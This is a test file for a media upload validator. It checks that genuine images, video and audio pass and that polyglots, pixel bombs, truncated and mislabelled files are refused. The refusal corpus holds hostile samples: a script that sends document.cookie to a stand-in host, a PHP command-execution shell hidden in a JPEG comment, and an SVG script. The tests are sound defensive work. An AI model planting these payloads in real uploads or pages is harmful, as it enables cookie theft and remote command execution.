import { readFile, writeFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_MEDIA_LIMITS,
  MediaRefusal,
  cleanMedia,
  inspectUpload,
  type Inspection,
  type MediaLimits,
  type RefusalCode,
} from './index.js';
import {
  bombPng,
  ffmpeg,
  pseudoRandomBytes,
  rawImage,
  tempDir,
  withJpegSegment,
  withPngChunkBeforeEnd,
  zipArchive,
  refusalOf,
} from './test-fixtures.js';

let tmp: Awaited<ReturnType<typeof tempDir>>;
const p = (name: string) => tmp.path(name);

let jpeg: Buffer;
let png: Buffer;

beforeAll(async () => {
  tmp = await tempDir();
  jpeg = await rawImage(400, 300).jpeg({ quality: 90 }).toBuffer();
  png = await rawImage(120, 80).png().toBuffer();
  await writeFile(p('photo.jpg'), jpeg);
  await writeFile(p('photo.png'), png);
  await rawImage(200, 100)
    .withMetadata({ orientation: 6, exif: { IFD0: { Make: 'Canon', Model: 'EOS-Secret' } } })
    .jpeg()
    .toFile(p('rotated.jpg'));
  await rawImage(120, 80).webp().toFile(p('photo.webp'));
  await rawImage(120, 80).tiff().toFile(p('photo.tif'));
  await rawImage(64, 48).gif().toFile(p('anim.gif'));

  const video = ['-f', 'lavfi', '-i', 'testsrc=size=160x120:rate=15:duration=1', '-f', 'lavfi', '-i', 'sine=frequency=440:duration=1'];
  const h264 = ['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p', '-c:a', 'aac', '-shortest'];
  const sine = ['-f', 'lavfi', '-i', 'sine=frequency=440:duration=1'];
  await Promise.all([
    ffmpeg([...video, ...h264, p('clip.mp4')]),
    ffmpeg([...video, ...h264, '-f', 'mov', p('clip.mov')]),
    ffmpeg([...video, '-c:v', 'libvpx', '-deadline', 'realtime', '-c:a', 'libopus', '-shortest', p('clip.webm')]),
    ffmpeg([...sine, '-c:a', 'aac', p('sound.m4a')]),
    ffmpeg([...sine, '-c:a', 'libmp3lame', p('sound.mp3')]),
    ffmpeg([...sine, p('sound.wav')]),
    ffmpeg([...sine, '-c:a', 'libvorbis', p('sound.ogg')]),
    ffmpeg([...sine, '-c:a', 'libopus', p('sound.opus')]),
    ffmpeg(['-f', 'lavfi', '-i', 'sine=frequency=440:duration=3', p('long.wav')]),
    // longer than the head and tail windows together, so the middle is skipped
    ffmpeg(['-f', 'lavfi', '-i', 'sine=frequency=440:duration=40', '-c:a', 'libmp3lame', '-b:a', '96k', p('long.mp3')]),
    ffmpeg(['-f', 'lavfi', '-i', 'sine=frequency=440:duration=40', '-c:a', 'libvorbis', '-q:a', '6', p('long.ogg')]),
  ]);
}, 60_000);

afterAll(async () => {
  await tmp?.remove();
});

describe('inspectUpload accepts real media by content', () => {
  const cases: Array<[file: string, name: string, expected: Inspection]> = [
    ['photo.jpg', 'IMG_0001.JPG', { kind: 'image', mime: 'image/jpeg', ext: 'jpg', width: 400, height: 300 }],
    ['photo.png', 'scan.png', { kind: 'image', mime: 'image/png', ext: 'png', width: 120, height: 80 }],
    ['photo.webp', 'bild.webp', { kind: 'image', mime: 'image/webp', ext: 'webp', width: 120, height: 80 }],
    ['photo.tif', 'bild.tiff', { kind: 'image', mime: 'image/tiff', ext: 'tif', width: 120, height: 80 }],
    ['clip.mp4', 'film.mp4', { kind: 'video', mime: 'video/mp4', ext: 'mp4' }],
    ['clip.mov', 'IMG_0002.MOV', { kind: 'video', mime: 'video/quicktime', ext: 'mov' }],
    ['clip.webm', 'inspelning.webm', { kind: 'video', mime: 'video/webm', ext: 'webm' }],
    ['sound.m4a', 'diktat.m4a', { kind: 'audio', mime: 'audio/mp4', ext: 'm4a' }],
    ['sound.mp3', 'ljud.mp3', { kind: 'audio', mime: 'audio/mpeg', ext: 'mp3' }],
    ['sound.wav', 'ljud.wav', { kind: 'audio', mime: 'audio/wav', ext: 'wav' }],
    ['sound.ogg', 'ljud.ogg', { kind: 'audio', mime: 'audio/ogg', ext: 'ogg' }],
    ['sound.opus', 'ljud.opus', { kind: 'audio', mime: 'audio/ogg', ext: 'ogg' }],
  ];
  it.each(cases)('%s named %s', async (file, name, expected) => {
    expect(await inspectUpload(p(file), name)).toEqual(expected);
  });

  it('reports the displayed size of an EXIF-rotated JPEG (orientation 6 swaps width and height)', async () => {
    expect(await inspectUpload(p('rotated.jpg'), 'rotated.jpg')).toMatchObject({ width: 100, height: 200 });
  });

  it('accepts a name without extension, or with an extension it does not know', async () => {
    await expect(inspectUpload(p('photo.jpg'), 'blob')).resolves.toMatchObject({ mime: 'image/jpeg' });
    await expect(inspectUpload(p('photo.jpg'), 'bild.20240102')).resolves.toMatchObject({ mime: 'image/jpeg' });
  });

  it('treats MP4, MOV and M4A names as one family, and decides audio by content or .m4a name', async () => {
    await expect(inspectUpload(p('clip.mp4'), 'film.mov')).resolves.toMatchObject({ kind: 'video' });
    await expect(inspectUpload(p('sound.m4a'), 'diktat.mp4')).resolves.toMatchObject({ kind: 'audio', mime: 'audio/mp4' });
  });

  it('accepts what phones legitimately put after a JPEG: a further JPEG (MPF gain/depth map) and zero padding', async () => {
    await writeFile(p('mpf.jpg'), Buffer.concat([jpeg, await rawImage(64, 32, 7).jpeg().toBuffer(), Buffer.alloc(100)]));
    await expect(inspectUpload(p('mpf.jpg'), 'mpf.jpg')).resolves.toMatchObject({ mime: 'image/jpeg' });
  });

  it('accepts a Motion Photo (a complete MP4 after the JPEG)', async () => {
    await writeFile(p('motion.jpg'), Buffer.concat([jpeg, await readFile(p('clip.mp4'))]));
    await expect(inspectUpload(p('motion.jpg'), 'PXL_motion.jpg')).resolves.toMatchObject({ mime: 'image/jpeg' });
  });

  it('long MP3 and Ogg files are checked at their start and end only, and still accepted', async () => {
    await expect(inspectUpload(p('long.mp3'), 'long.mp3')).resolves.toMatchObject({ kind: 'audio', mime: 'audio/mpeg' });
    await expect(inspectUpload(p('long.ogg'), 'long.ogg')).resolves.toMatchObject({ kind: 'audio', mime: 'audio/ogg' });
  });

  it('does not mistake large compressed images for polyglots', async () => {
    await rawImage(1600, 1200, 3).jpeg({ quality: 98 }).toFile(p('large.jpg'));
    await rawImage(1000, 800, 5).png({ compressionLevel: 1 }).toFile(p('large.png'));
    await expect(inspectUpload(p('large.jpg'), 'large.jpg')).resolves.toMatchObject({ width: 1600, height: 1200 });
    await expect(inspectUpload(p('large.png'), 'large.png')).resolves.toMatchObject({ width: 1000, height: 800 });
  });
});

describe('bad files are refused with the right code', () => {
  const SCRIPT = '<html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>';

  type Build = () => Promise<Buffer>;
  const corpus: Array<[name: string, code: RefusalCode, build: Build, limits?: Partial<MediaLimits>]> = [
    ['empty.jpg', 'empty', async () => Buffer.alloc(0)],
    ['truncated.jpg', 'truncated', async () => jpeg.subarray(0, Math.floor(jpeg.length * 0.6))],
    ['truncated.png', 'truncated', async () => png.subarray(0, Math.floor(png.length * 0.6))],
    ['truncated.mp4', 'truncated', async () => {
      const mp4 = await readFile(p('clip.mp4'));
      return mp4.subarray(0, Math.floor(mp4.length * 0.7));
    }],
    ['bomb.png', 'too_many_pixels', async () => bombPng(30_000, 30_000)],
    ['huge.jpg', 'too_large', async () => jpeg, { maxBytes: 1000 }],
    ['small-limit.jpg', 'too_many_pixels', async () => jpeg, { maxPixels: 100 * 100 }],
    ['archive.jpg', 'unsupported_type', async () => zipArchive()],
    ['zip-appended.jpg', 'polyglot', async () => Buffer.concat([jpeg, zipArchive()])],
    ['html-appended.jpg', 'polyglot', async () => Buffer.concat([jpeg, Buffer.from(SCRIPT)])],
    ['php-in-comment.jpg', 'polyglot', async () => withJpegSegment(jpeg, 0xfe, Buffer.from('<?php system($_GET["c"]); ?>'))],
    ['html-in-exif.jpg', 'polyglot', async () => withJpegSegment(jpeg, 0xe1, Buffer.from(`Exif\0\0${SCRIPT}`))],
    ['after-iend.png', 'polyglot', async () => Buffer.concat([png, Buffer.from('GIF89a and then anything at all')])],
    ['zip-in-chunk.png', 'polyglot', async () => withPngChunkBeforeEnd(png, 'prVt', zipArchive())],
    ['zip-appended.mp4', 'polyglot', async () => Buffer.concat([await readFile(p('clip.mp4')), zipArchive()])],
    ['zip-in-free-box.mp4', 'polyglot', async () => {
      const zip = zipArchive();
      const box = Buffer.alloc(8);
      box.writeUInt32BE(zip.length + 8, 0);
      box.write('free', 4, 'latin1');
      return Buffer.concat([await readFile(p('clip.mp4')), box, zip]);
    }],
    ['html-appended.wav', 'polyglot', async () => Buffer.concat([await readFile(p('sound.wav')), Buffer.from(SCRIPT)])],
    ['zip-appended.mp3', 'polyglot', async () => Buffer.concat([await readFile(p('sound.mp3')), zipArchive()])],
    ['zip-appended.ogg', 'polyglot', async () => Buffer.concat([await readFile(p('sound.ogg')), zipArchive()])],
    ['zip-appended-long.mp3', 'polyglot', async () => Buffer.concat([await readFile(p('long.mp3')), zipArchive()])],
    ['big-appended-long.mp3', 'polyglot', async () => Buffer.concat([await readFile(p('long.mp3')), pseudoRandomBytes(300_000, 3)])],
    ['zip-appended-long.ogg', 'polyglot', async () => Buffer.concat([await readFile(p('long.ogg')), zipArchive()])],
    ['big-appended-long.ogg', 'polyglot', async () => Buffer.concat([await readFile(p('long.ogg')), pseudoRandomBytes(300_000, 4)])],
    ['zip-appended.webm', 'polyglot', async () => Buffer.concat([await readFile(p('clip.webm')), zipArchive()])],
    ['corrupt.mp4', 'corrupt', async () => {
      const ftyp = Buffer.alloc(24);
      ftyp.writeUInt32BE(24, 0);
      ftyp.write('ftypisom\0\0\x02\0isomiso2', 4, 'latin1');
      return Buffer.concat([ftyp, pseudoRandomBytes(4096, 42)]);
    }],
    ['page.html', 'unsupported_type', async () => Buffer.from(`<!DOCTYPE html>${SCRIPT}`)],
    ['page.jpg', 'unsupported_type', async () => Buffer.from(`<!DOCTYPE html>${SCRIPT}`)],
    ['doc.pdf', 'unsupported_type', async () => Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')],
    ['program.exe', 'unsupported_type', async () => {
      const exe = Buffer.alloc(512);
      exe.write('MZ', 0, 'latin1');
      exe.writeUInt32LE(0x80, 0x3c);
      exe.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
      exe.write('PE\0\0', 0x80, 'latin1');
      exe.writeUInt16LE(0x14c, 0x84);
      return exe;
    }],
    ['drawing.svg', 'unsupported_type', async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['anim.gif', 'unsupported_type', async () => readFile(p('anim.gif'))],
    ['notes.txt', 'unsupported_type', async () => Buffer.from('Patienten mår bra.\n')],
    ['png-named.jpg', 'type_mismatch', async () => png],
    ['jpeg-named.pdf', 'type_mismatch', async () => jpeg],
    ['jpeg-named.mp4', 'type_mismatch', async () => jpeg],
    ['mp3-named.wav', 'type_mismatch', async () => readFile(p('sound.mp3'))],
  ];

  it.each(corpus)('%s → %s', async (name, code, build, limits) => {
    await writeFile(p(name), await build());
    const refusal = await refusalOf(inspectUpload(p(name), name, { ...DEFAULT_MEDIA_LIMITS, ...limits }));
    expect(refusal.code).toBe(code);
    expect(refusal.message).toMatch(/[a-zåäö]/i);
    expect(refusal.message).not.toMatch(/Error|undefined|NaN/);
  });

  it('AVIF is not on the accepted list', async () => {
    await rawImage(32, 32).avif({ effort: 0 }).toFile(p('photo.avif'));
    expect((await refusalOf(inspectUpload(p('photo.avif'), 'photo.avif'))).code).toBe('unsupported_type');
  });

  it('a HEIC without an item table (no primary image to decode) is refused as corrupt, in the request and in the job', async () => {
    // ftyp 'heic' + a meta box with only an HEVC decoder configuration (hvcC): no pitm, iinf or ispe.
    // (Real HEIC photos are accepted and decoded: see heif.test.ts.)
    const box = (type: string, body: Buffer) => {
      const h = Buffer.alloc(8);
      h.writeUInt32BE(body.length + 8, 0);
      h.write(type, 4, 'latin1');
      return Buffer.concat([h, body]);
    };
    const heic = Buffer.concat([
      box('ftyp', Buffer.from('heic\0\0\0\0mif1heic', 'latin1')),
      box('meta', Buffer.concat([Buffer.alloc(4), box('iprp', box('ipco', box('hvcC', Buffer.alloc(23))))])),
      box('mdat', pseudoRandomBytes(256, 9)),
    ]);
    await writeFile(p('IMG_0003.HEIC'), heic);
    const refusal = await refusalOf(inspectUpload(p('IMG_0003.HEIC'), 'IMG_0003.HEIC'));
    expect(refusal.code).toBe('corrupt');
    const inJob = await refusalOf(cleanMedia(p('IMG_0003.HEIC'), p('out.jpg'), { kind: 'image', mime: 'image/heic', ext: 'heic' }));
    expect(inJob.code).toBe('corrupt');
  });

  it('a recording longer than maxDurationMs is refused as too_long by cleanMedia', async () => {
    const limits = { ...DEFAULT_MEDIA_LIMITS, maxDurationMs: 2000 };
    const inspection = await inspectUpload(p('long.wav'), 'long.wav', limits);
    const refusal = await refusalOf(cleanMedia(p('long.wav'), p('long-clean.wav'), inspection, limits));
    expect(refusal.code).toBe('too_long');
    expect(refusal.message).toMatch(/3 sekunder/);
  });

  it('the pixel bomb is also refused by cleanMedia when a job is handed it directly', async () => {
    const refusal = await refusalOf(cleanMedia(p('bomb.png'), p('bomb-clean.png'), { kind: 'image', mime: 'image/png', ext: 'png' }));
    expect(refusal.code).toBe('too_many_pixels');
  });

  it('no exception other than MediaRefusal escapes cleanMedia for any bad file, whatever inspection it is handed', async () => {
    const forged: Inspection[] = [
      { kind: 'image', mime: 'image/jpeg', ext: 'jpg' },
      { kind: 'image', mime: 'image/png', ext: 'png' },
      { kind: 'video', mime: 'video/mp4', ext: 'mp4' },
      { kind: 'audio', mime: 'audio/wav', ext: 'wav' },
    ];
    for (const [name, code, , limits] of corpus) {
      // Files refused only for their name or a test-specific limit are fine media; the rest must never be cleaned.
      const badContent = code !== 'type_mismatch' && limits === undefined;
      for (const inspection of forged) {
        let refused = false;
        try {
          await cleanMedia(p(name), p(`clean-${name}`), inspection);
        } catch (err) {
          expect(err, `${name} as ${inspection.mime}`).toBeInstanceOf(MediaRefusal);
          refused = true;
        }
        if (badContent) expect(refused, `${name} as ${inspection.mime}`).toBe(true);
      }
    }
  }, 60_000);

  it('a file whose content changed since inspection is refused by cleanMedia', async () => {
    const inspection = await inspectUpload(p('photo.jpg'), 'photo.jpg');
    await writeFile(p('swapped.jpg'), png);
    expect((await refusalOf(cleanMedia(p('swapped.jpg'), p('swapped-out'), inspection))).code).toBe('type_mismatch');
  });

  it('answers a bomb from its header at once (nothing is decoded in the request path)', async () => {
    const started = Date.now();
    await refusalOf(inspectUpload(p('bomb.png'), 'bomb.png'));
    expect(Date.now() - started).toBeLessThan(1000);
  });
});
